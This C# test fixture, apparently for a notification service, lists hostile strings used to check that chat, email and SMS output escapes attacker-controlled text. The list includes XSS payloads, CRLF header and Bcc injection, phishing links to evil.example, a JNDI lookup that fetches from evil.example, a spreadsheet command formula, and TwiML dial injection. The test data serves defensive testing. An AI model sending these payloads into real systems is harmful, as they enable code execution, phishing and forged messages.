namespace LeptonStream.Roles.Tests.Notifier.Channels;

/// <summary>Names that a producer could send to make a message say, link or call something of its own.</summary>
internal static class HostileTexts
{
    public static readonly string[] All =
    [
        "@all", "@here", "@everyone", "@channel", "<!channel>", "<!here>", "<!everyone>", "<@U12345>", "<@&1234>", "<#C123|general>",
        "<@all>", "<at>Everyone</at>", "<at id=all></at>", "<at user_id=\"all\">all</at>", "@13800000000", "<https://evil.example|click>",
        "[click](https://evil.example)", "![x](https://evil.example/x.png)", "[a]: https://evil.example", "<https://evil.example>",
        "https://evil.example/login", "www.evil.example", "javascript:alert(1)",
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "<b>bold</b>", "<a href='https://evil.example'>x</a>", "</p><h1>All is well</h1>", "<font color=\"info\">resolved</font>",
        "**bold**", "*bold*", "__under__", "~~gone~~", "`code`", "```\ncode\n```", "# Title", "> quote", "- item", "1. item", "---",
        "| a | b |",
        "||spoiler||", "\\*escaped\\*", "a\nb", "a\r\nSubject: forged", "a\r\nBcc: all@example.org", "\u2028line\u2029paragraph",
        "\u202Etxet desrever", "\u001b[31mred\u001b[0m", "\u0007bell\u0000null", "&lt;script&gt;", "&#x3C;b&#x3E;", "%0d%0aX-Header: 1",
        "\"},\"text\":\"forged", "a&To=+1900&Body=x",
        "{{ .ExternalURL }}", "${jndi:ldap://evil.example/a}", "<t:0:R>", "<:smile:1>", ":smile:",
        "=cmd|'/c calc'!A1", "</Say><Dial>+1900</Dial>", "user@example.org", "tel:+1900", "\uFEFFhidden\u200B",
    ];
}
